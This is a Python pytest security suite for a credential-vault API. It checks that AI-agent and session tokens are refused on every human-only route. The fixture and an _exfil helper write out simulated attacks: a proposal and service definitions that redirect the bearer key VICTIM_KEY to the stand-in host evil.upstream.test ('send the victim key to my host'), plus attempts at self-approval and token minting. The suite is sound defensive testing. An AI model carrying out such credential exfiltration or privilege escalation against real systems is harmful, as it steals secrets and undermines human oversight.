"""An agent goes through the control API (SPEC §3.3, §8, §9, §14.1, §14.2).

Every route the running server publishes (its OpenAPI document, plus the routes it hides from it) is
called with agent and session tokens: a proxy-role agent, a member-role agent, the agent's own session, a
session the owner minted for himself and one the owner minted for another agent. Bodies are valid and
even carry the owner's correct step-up password, so a refusal can only come from the role check.
None of them may reveal a value, write a service, change a grant, mint or rotate a token for someone
else, or approve/reject a proposal; no answer carries a credential value; nothing answers 5xx. The
state is compared before and after, and the proxy still injects the original value at the end.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
import trustme
from helpers.server import OWNER_EMAIL, OWNER_PASSWORD
from helpers.upstream import TLSUpstream
from security.conftest import Sweep, SweptServer, carries, header_values, new_secret, start_server

PW = OWNER_PASSWORD
HIDDEN_ROUTES = {("GET", "/discover"), ("GET", "/metrics"), ("GET", "/ui/approve/{vault}/{pid}")}
# SPEC §9 lists these too; whether or not they exist yet, agents must not get anything from them.
SPEC_ONLY_ROUTES = {
    ("GET", "/v1/auth/sessions"),
    ("DELETE", "/v1/auth/sessions/{sid}"),
    ("GET", "/v1/users/invites"),
    ("DELETE", "/v1/users/invites/{iid}"),
    ("GET", "/v1/catalog"),
    ("POST", "/v1/ca/rotate"),
}
REFUSED = (401, 403, 404, 405)  # 405: the route does not exist (yet)


@pytest.fixture(scope="module")
def world(
    tmp_path_factory: pytest.TempPathFactory, upstream_ca: trustme.CA, sweep: Sweep, up: TLSUpstream
) -> Iterator[dict[str, Any]]:
    for srv in start_server(tmp_path_factory, upstream_ca, sweep, "api"):
        with srv.http() as c:
            c.post("/v1/vaults", json={"name": "other"}).raise_for_status()
        victim_value = new_secret()
        srv.set_credential("VICTIM_KEY", victim_value)
        srv.set_credential("PROBE_KEY", new_secret("/+=&x"))
        srv.set_credential("OTHER_KEY", new_secret(), vault="other")
        victim = {
            "name": "victim-api",
            "host": "api.upstream.test",
            "port": up.port,
            "auth": {"type": "bearer", "token": "VICTIM_KEY"},
        }
        srv.add_service(victim)
        srv.add_service(
            {**victim, "name": "other-api", "auth": {"type": "bearer", "token": "OTHER_KEY"}}, "other"
        )
        spy = srv.make_agent("spy")
        insider = srv.make_agent("insider", role="member")
        srv.make_agent("victim-bot", vaults=("default", "other"))
        own_session = srv.session(spy)
        human_session = srv.session(label="owner's own")
        victim_session = srv.session(agent="victim-bot")
        target_session = srv.session(label="someone else's")
        with srv.http(spy) as c:
            r = c.post(
                "/v1/proposals",
                json={
                    "services": [
                        {
                            "action": "set",
                            "name": "exfil",
                            "host": "evil.upstream.test",
                            "auth": {"type": "bearer", "token": "VICTIM_KEY"},
                        }
                    ],
                    "message": "send the victim key to my host",
                },
            )
            assert r.status_code == 201, r.text
            proposal = r.json()
        yield {
            "srv": srv,
            "victim": victim,
            "victim_value": victim_value,
            "attackers": {
                "agent-proxy": spy,
                "agent-member": insider,
                "session-own": own_session["token"],
                "session-of-owner": human_session["token"],
                "session-of-victim": victim_session["token"],
            },
            "target_session": target_session["id"],
            "proposal": proposal,
        }


def _exfil(port: int | None = None) -> dict[str, Any]:
    return {
        "name": "exfil",
        "host": "evil.upstream.test",
        "port": port,
        "auth": {"type": "bearer", "token": "VICTIM_KEY"},
    }


def _table(w: dict[str, Any]) -> dict[tuple[str, str], tuple[dict[str, str], Any, str]]:
    """(method, path) -> (path params, JSON body, who may do it). `human`: refused to every agent or
    session token (§3.3 "human", user-only and owner-only routes); `member`: refused to proxy-role tokens."""
    pid, sid = str(w["proposal"]["id"]), str(w["target_session"])
    v = {"v": "default"}
    svc = {**v, "name": "victim-api"}
    grant = {**v, "name": "spy"}
    me = {"email": OWNER_EMAIL}
    key = {**v, "key": "PROBE_KEY"}
    prop = {**v, "pid": pid}
    value = new_secret()
    return {
        ("GET", "/openapi.json"): ({}, None, "any"),
        ("GET", "/v1/vaults"): ({}, None, "any"),
        ("POST", "/v1/vaults"): ({}, {"name": "spy-vault"}, "human"),
        ("GET", "/v1/vaults/{v}"): (v, None, "any"),
        ("PATCH", "/v1/vaults/{v}"): (v, {"password": PW, "unmatched_policy": "passthrough"}, "human"),
        ("DELETE", "/v1/vaults/{v}"): ({"v": "other"}, {"password": PW}, "human"),
        ("GET", "/v1/vaults/{v}/credentials"): (v, None, "any"),
        ("PUT", "/v1/vaults/{v}/credentials/{key}"): (key, {"value": value}, "member"),
        ("POST", "/v1/vaults/{v}/credentials/{key}/rotate"): (key, {"value": value}, "member"),
        ("DELETE", "/v1/vaults/{v}/credentials/{key}"): (key, None, "member"),
        ("POST", "/v1/vaults/{v}/credentials/{key}/reveal"): (
            {**v, "key": "VICTIM_KEY"},
            {"password": PW},
            "human",
        ),
        ("GET", "/v1/vaults/{v}/services"): (v, None, "any"),
        ("POST", "/v1/vaults/{v}/services"): (v, {"password": PW, "service": _exfil()}, "human"),
        ("PUT", "/v1/vaults/{v}/services"): (v, {"password": PW, "services": [_exfil()]}, "human"),
        ("GET", "/v1/vaults/{v}/services/{name}"): (svc, None, "any"),
        ("PUT", "/v1/vaults/{v}/services/{name}"): (
            svc,
            {"password": PW, "service": {**w["victim"], "host": "evil.upstream.test"}},
            "human",
        ),
        ("PATCH", "/v1/vaults/{v}/services/{name}"): (svc, {"password": PW, "enabled": False}, "human"),
        ("DELETE", "/v1/vaults/{v}/services/{name}"): (svc, {"password": PW}, "human"),
        ("GET", "/v1/vaults/{v}/agents"): (v, None, "human"),
        ("PUT", "/v1/vaults/{v}/agents/{name}"): (grant, {"password": PW, "role": "member"}, "human"),
        ("DELETE", "/v1/vaults/{v}/agents/{name}"): ({**v, "name": "victim-bot"}, {"password": PW}, "human"),
        ("GET", "/v1/vaults/{v}/users"): (v, None, "human"),
        ("PUT", "/v1/vaults/{v}/users/{email}"): ({**v, **me}, {"password": PW, "role": "proxy"}, "human"),
        ("DELETE", "/v1/vaults/{v}/users/{email}"): ({**v, **me}, {"password": PW}, "human"),
        ("POST", "/v1/auth/login"): ({}, {"email": "nobody@example.com", "password": "x" * 12}, "any"),
        ("POST", "/v1/auth/logout"): ({}, None, "human"),
        ("GET", "/v1/auth/me"): ({}, None, "any"),
        ("GET", "/v1/auth/sessions"): ({}, None, "human"),
        ("DELETE", "/v1/auth/sessions/{sid}"): ({"sid": sid}, None, "human"),
        ("GET", "/v1/agents"): ({}, None, "human"),
        ("POST", "/v1/agents"): (
            {},
            {"password": PW, "name": "minion", "vaults": [{"vault": "default", "role": "member"}]},
            "human",
        ),
        ("GET", "/v1/agents/{name}"): ({"name": "victim-bot"}, None, "human"),
        ("DELETE", "/v1/agents/{name}"): ({"name": "victim-bot"}, None, "human"),
        ("POST", "/v1/agents/{name}/rotate"): ({"name": "victim-bot"}, {"password": PW}, "human"),
        ("POST", "/v1/agents/{name}/revoke"): ({"name": "victim-bot"}, None, "human"),
        ("POST", "/v1/sessions"): ({}, {"vault": "default", "agent": "victim-bot"}, "human"),
        ("GET", "/v1/sessions"): ({}, None, "member"),
        ("POST", "/v1/sessions/{sid}/renew"): ({"sid": sid}, {"ttl_seconds": 7 * 86400}, "human"),
        ("POST", "/v1/sessions/{sid}/settle"): ({"sid": sid}, {"wait_seconds": 0}, "human"),
        ("DELETE", "/v1/sessions/{sid}"): ({"sid": sid}, None, "member"),
        ("GET", "/v1/users"): ({}, None, "human"),
        ("GET", "/v1/users/invites"): ({}, None, "human"),
        ("DELETE", "/v1/users/invites/{iid}"): ({"iid": "1"}, None, "human"),
        ("POST", "/v1/users/invites"): (
            {},
            {"password": PW, "email": "spy@example.com", "role": "owner", "vaults": []},
            "human",
        ),
        ("POST", "/v1/invites/{token}/accept"): (
            {"token": "av_inv_" + "A" * 43},
            {"password": "x" * 12},
            "any",
        ),
        ("DELETE", "/v1/users/{email}"): (me, {"password": PW}, "human"),
        ("PATCH", "/v1/users/{email}"): (me, {"password": PW, "role": "member"}, "human"),
        ("GET", "/v1/discover"): ({}, None, "any"),
        ("GET", "/discover"): ({}, None, "any"),
        ("GET", "/v1/mitm/ca.pem"): ({}, None, "any"),
        ("GET", "/v1/status"): ({}, None, "any"),
        ("GET", "/health"): ({}, None, "any"),
        ("GET", "/ready"): ({}, None, "any"),
        ("GET", "/metrics"): ({}, None, "any"),
        ("GET", "/v1/catalog"): ({}, None, "any"),
        ("POST", "/v1/ca/rotate"): ({}, {"password": PW}, "human"),
        ("POST", "/v1/proposals"): (
            {},
            {"credentials": [{"action": "set", "key": "VICTIM_KEY", "value": value}], "message": "x"},
            "refused",
        ),
        ("GET", "/v1/proposals"): ({}, None, "any"),
        ("GET", "/v1/proposals/{pid}"): ({"pid": pid}, None, "any"),
        ("GET", "/v1/vaults/{v}/proposals"): (v, None, "member"),
        ("GET", "/v1/vaults/{v}/proposals/{pid}"): (prop, None, "member"),
        ("POST", "/v1/vaults/{v}/proposals/{pid}/approve"): (
            prop,
            {"password": PW, "credentials": {}, "note": "self-approved"},
            "human",
        ),
        ("POST", "/v1/vaults/{v}/proposals/{pid}/reject"): (prop, {"reason": "sabotage"}, "human"),
        ("GET", "/v1/vaults/{v}/logs"): (v, None, "member"),
        ("GET", "/v1/holds"): ({}, None, "any"),
        ("GET", "/v1/vaults/{v}/holds"): (v, None, "member"),
        ("POST", "/v1/vaults/{v}/holds/{hid}/approve"): (
            {**v, "hid": "0badc0de"},
            {"password": PW, "scope": "always"},
            "human",
        ),
        ("POST", "/v1/vaults/{v}/holds/{hid}/deny"): ({**v, "hid": "0badc0de"}, {}, "human"),
        ("GET", "/v1/audit"): ({}, None, "human"),
        ("POST", "/v1/audit/verify"): ({}, None, "human"),
        ("GET", "/ui/approve/{vault}/{pid}"): ({"vault": "default", "pid": pid}, None, "any"),
    }


def _routes(srv: SweptServer) -> set[tuple[str, str]]:
    with srv.http() as c:
        schema = c.get("/openapi.json").json()
    found = {(m.upper(), p) for p, ops in schema["paths"].items() for m in ops}
    return found | HIDDEN_ROUTES | SPEC_ONLY_ROUTES


def _state(srv: SweptServer) -> dict[str, Any]:
    """What an attack could change, as the owner sees it."""
    out: dict[str, Any] = {}
    with srv.http() as c:
        for path in (
            "/v1/vaults",
            "/v1/agents",
            "/v1/users",
            "/v1/vaults/default",
            "/v1/vaults/other",
            "/v1/vaults/default/services",
            "/v1/vaults/other/services",
            "/v1/vaults/default/agents",
            "/v1/vaults/other/agents",
            "/v1/vaults/default/users",
            "/v1/vaults/default/proposals",
            "/v1/vaults/other/credentials",
        ):
            r = c.get(path)
            assert r.status_code == 200, (path, r.text)
            out[path] = r.json()
        creds = c.get("/v1/vaults/default/credentials").json()["credentials"]
        out["VICTIM_KEY"] = [x for x in creds if x["key"] == "VICTIM_KEY"]
    out["/v1/vaults/default"]["counts"].pop("credentials")  # the member agent may write PROBE_KEY
    for agent in out["/v1/agents"]["agents"]:
        agent.pop("last_used_at", None)
    for vault in out["/v1/vaults"]["vaults"]:
        vault.pop("pending_proposals", None)
    out["/v1/vaults/default/proposals"] = sorted(
        (p["id"], p["status"]) for p in out["/v1/vaults/default/proposals"]["proposals"]
    )
    return out


def _client(srv: SweptServer) -> httpx.Client:
    """No default token; one connection per request, because keep-alive requests to the API wait ~40 ms
    each (the API socket lacks TCP_NODELAY, see the report)."""
    return httpx.Client(
        base_url=srv.api,
        trust_env=False,
        timeout=30,
        event_hooks=srv._hook("api as agent"),
        limits=httpx.Limits(max_keepalive_connections=0),
    )


def _call(c: httpx.Client, method: str, path: str, body: Any, **kw: Any) -> httpx.Response:
    return c.request(method, path, json=body, **kw) if body is not None else c.request(method, path, **kw)


def test_every_route_refuses_agents_and_sessions_what_only_humans_may_do(
    world: dict[str, Any], sweep: Sweep, up: TLSUpstream, evil: TLSUpstream
) -> None:
    srv: SweptServer = world["srv"]
    routes = _routes(srv)
    table = _table(world)
    assert len(routes) >= 60, sorted(routes)  # the enumeration is real, not empty
    unknown = routes - set(table)
    assert not unknown, f"routes without an attack entry (add them to the table): {sorted(unknown)}"
    before = _state(srv)
    problems: list[str] = []
    order = sorted(routes, key=lambda r: (r[0] != "GET", r[1]))  # reads first, then writes
    c = _client(srv)
    for who, token in world["attackers"].items():
        for method, template in order:
            params, body, rule = table[(method, template)]
            path = re.sub(r"\{(\w+)\}", lambda m: params[m.group(1)], template)
            variants = {"bearer": {"Authorization": f"Bearer {token}", "X-Vault": "default"}}
            if rule == "human":  # the UI cookie is a second way to present the same token
                variants["cookie"] = {"Origin": srv.api, "Cookie": f"av_ui={token}"}
            for how, headers in variants.items():
                r = _call(c, method, path, body, headers=headers)
                label = f"{who} {method} {path} ({how}) -> {r.status_code}"
                if r.status_code >= 500:
                    problems.append(f"{label}: server error {r.text[:200]}")
                if any(f in r.text for f in sweep.values):
                    problems.append(f"{label}: a credential value in the answer")
                refused = r.status_code in REFUSED
                if rule == "human" and not refused:
                    problems.append(f"{label}: human-only action not refused: {r.text[:200]}")
                if rule == "member" and who != "agent-member" and not refused:
                    problems.append(f"{label}: member action open to a proxy-role token: {r.text[:200]}")
                if rule == "refused" and r.status_code < 400:
                    problems.append(f"{label}: accepted: {r.text[:200]}")
    c.close()
    assert not problems, "\n".join(problems)
    after = _state(srv)
    assert after == before
    # the agents' attempts changed nothing on the wire either: the original value goes to the real host only
    spy = world["attackers"]["agent-proxy"]
    up.requests_seen.clear()
    with srv.agent_client(spy) as c:
        r = c.get(f"https://api.upstream.test:{up.port}/echo/after")
        assert r.status_code == 200, r.text
        c.get(f"https://evil.upstream.test:{evil.port}/echo/after")
    victim_value = world["victim_value"]
    sent = up.requests_seen.wait_for(1)[0]
    assert header_values(sent, "authorization") == [f"Bearer {victim_value}"]
    assert not any(carries(r, victim_value) for r in evil.requests_seen.snapshot())


def test_other_vaults_are_invisible_to_agents_and_sessions(world: dict[str, Any], sweep: Sweep) -> None:
    """Every vault-scoped read of a vault the token has no grant on is refused, and names nothing."""
    srv: SweptServer = world["srv"]
    reads = [p for m, p in _routes(srv) if m == "GET" and p.startswith("/v1/vaults/{v}")]
    params = {"v": "other", "key": "OTHER_KEY", "name": "other-api", "email": OWNER_EMAIL, "pid": "1"}
    c = _client(srv)
    for who, token in world["attackers"].items():
        auth = {"Authorization": f"Bearer {token}", "X-Vault": "other"}
        for template in reads:
            path = re.sub(r"\{(\w+)\}", lambda m: params[m.group(1)], template)
            r = c.get(path, headers=auth)
            assert r.status_code in REFUSED, (who, path, r.status_code, r.text)
            assert "OTHER_KEY" not in r.text and "other-api" not in r.text, (who, path, r.text)
        r = c.get("/v1/discover", headers=auth)  # the agent-facing endpoints do not switch vault either
        assert r.status_code in (403, 404) or r.json()["vault"] == "default", (who, r.text)
        assert "OTHER_KEY" not in r.text
    c.close()


def test_discover_and_listings_name_keys_never_values(world: dict[str, Any], sweep: Sweep) -> None:
    srv: SweptServer = world["srv"]
    with srv.http(world["attackers"]["session-own"]) as c:
        d = c.get("/v1/discover").json()
        creds = c.get("/v1/vaults/default/credentials").json()["credentials"]
    assert "VICTIM_KEY" in d["available_credentials"]
    assert {x["key"] for x in creds} >= {"VICTIM_KEY"} and all("value" not in x for x in creds)


def test_a_session_cannot_outlive_its_wrapper(world: dict[str, Any]) -> None:
    """The child of `vault run` holds a session token: it may not mint a fresh one nor extend its own
    TTL (the TTL is the dead-man switch if the wrapper dies, SPEC §7.1; renew is for the creator, §9)."""
    srv: SweptServer = world["srv"]
    spy = world["attackers"]["agent-proxy"]
    sess = srv.session(spy, ttl_seconds=300)
    with srv.http(sess["token"]) as c:
        minted = c.post("/v1/sessions", json={"vault": "default", "ttl_seconds": 7 * 86400})
        renewed = c.post(f"/v1/sessions/{sess['id']}/renew", json={"ttl_seconds": 7 * 86400})
    assert minted.status_code in REFUSED, minted.text
    assert renewed.status_code in REFUSED, renewed.text
    with srv.http(spy) as c:  # the creator may renew
        assert c.post(f"/v1/sessions/{sess['id']}/renew", json={"ttl_seconds": 600}).status_code == 200


def test_approval_link_gives_an_agent_no_authority(world: dict[str, Any], up: TLSUpstream) -> None:
    srv: SweptServer = world["srv"]
    spy = world["attackers"]["agent-proxy"]
    url = world["proposal"]["approval_url"]
    link = url.split("token=", 1)[1]
    assert link.startswith("av_appr_")
    srv.sweep.secret_token("approval link", link)
    pid = world["proposal"]["id"]
    base = f"/v1/vaults/default/proposals/{pid}"
    with srv.http(spy) as c:
        assert c.get(f"{base}?token={link}").status_code == 200  # it shows the proposal, nothing more
        r = c.post(f"{base}/approve?token={link}", json={"password": PW, "credentials": {}})
        assert r.status_code in REFUSED, r.text
    with srv.http(link) as c:  # the link itself as a bearer token
        assert c.get("/v1/discover").status_code == 401
        assert c.post(f"{base}/approve", json={"password": PW, "credentials": {}}).status_code == 401
    with srv.raw() as conn:  # and as a proxy credential
        assert (
            conn.connect(f"api.upstream.test:{up.port}", {"Proxy-Authorization": f"Bearer {link}"}).status
            == 407
        )
    with srv.http() as c:
        assert c.get(base).json()["status"] == "pending"


def test_validation_errors_never_echo_a_value(world: dict[str, Any], sweep: Sweep) -> None:
    """A member agent writes (allowed, write-only) with malformed bodies: 4xx answers carry no input."""
    srv: SweptServer = world["srv"]
    value = sweep.value("422 probe", new_secret())
    insider = world["attackers"]["agent-member"]
    with srv.http(insider) as c:
        for body in (
            {"value": value, "unexpected": value},
            {"value": [value]},
            {"value": value, "description": value * 50},
            {"description": value},
        ):
            r = c.put("/v1/vaults/default/credentials/PROBE_KEY", json=body)
            assert 400 <= r.status_code < 500 and value not in r.text, r.text
        r = c.put("/v1/vaults/default/credentials/bad-key", json={"value": value})
        assert 400 <= r.status_code < 500 and value not in r.text
        r = c.post(
            "/v1/proposals", json={"credentials": [{"action": "set", "key": "X_KEY", "obtain": value * 30}]}
        )
        assert 400 <= r.status_code < 500 and value not in r.text
